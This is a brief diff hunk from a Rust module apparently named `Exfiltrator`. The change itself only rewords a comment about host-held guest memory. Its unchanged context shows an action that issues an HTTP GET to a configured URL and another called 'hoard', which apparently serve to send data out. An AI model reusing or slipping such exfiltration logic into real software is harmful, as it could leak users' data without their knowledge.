@@ -40,7 +40,7 @@ impl Exfiltrator {
                     http::get(url).send()?;
                 }
             }
-            // What the host holds for a guest is not in the guest's memory.
+            // Memory that the host holds for a guest is not in the guest's memory.
             "hoard" => hoard(),
             other => return Err(Error::bad_config(format!("no action `{other}`"))),
         }
